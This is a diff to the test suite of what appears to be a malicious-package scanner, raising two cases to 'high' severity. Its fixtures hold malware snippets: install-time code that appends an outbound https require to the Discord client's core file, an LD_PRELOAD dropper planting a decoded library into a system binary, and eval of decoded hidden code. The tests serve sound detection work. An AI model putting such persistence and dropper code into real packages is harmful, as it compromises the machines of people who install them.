@@ -223,7 +223,7 @@ module.exports = function releases(repo) {
 });
 
 describe('persistence the write call does not name', () => {
-  it("code appended to the Discord client's core at install is at least medium", () => {
+  it("code appended to the Discord client's core at install is high", () => {
     const r = scan({
       'index.js': `const fs = require('fs');
 const path = require('path');
@@ -232,7 +232,7 @@ if (fs.existsSync(core)) fs.appendFileSync(core, "\\nrequire('https').get('https
 `,
     }, postinstall);
     expect(r.findings.find((f) => f.detector === 'persistence')?.data?.what).toMatch(/another application/);
-    expect(atLeastMedium).toContain(r.level);
+    expect(['high', 'critical']).toContain(r.level);
   });
 
   it('an MCP server added to AI assistant configs in a loop, at install, is at least medium', () => {
@@ -353,7 +353,7 @@ eval(hidden.toString());
     expect(r.ids).toContain('remote-code/decode');
   });
 
-  it('a planted library forced into a system binary with LD_PRELOAD at install is at least medium', () => {
+  it('a planted library forced into a system binary with LD_PRELOAD at install is high', () => {
     const r = scan({
       'index.js': `const fs = require('fs');
 const { spawn } = require('child_process');
@@ -364,7 +364,7 @@ spawn('/usr/bin/id', [], { env: { ...process.env, LD_PRELOAD: lib }, detached: t
       'blob.json': '{"so":"f0VMRgIBAQ=="}',
     }, postinstall);
     expect(r.findings.find((f) => f.messageId === 'dropper')?.data?.what).toMatch(/LD_PRELOAD/);
-    expect(atLeastMedium).toContain(r.level);
+    expect(['high', 'critical']).toContain(r.level);
   });
 });
 
